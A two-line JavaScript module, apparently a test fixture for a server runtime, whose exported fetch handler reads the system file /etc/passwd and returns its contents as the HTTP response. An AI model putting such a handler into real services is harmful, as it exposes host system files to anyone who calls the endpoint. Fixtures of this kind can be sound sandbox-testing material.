const fs = require("node:fs");
exports.fetch = () => new Response(fs.readFileSync("/etc/passwd"));
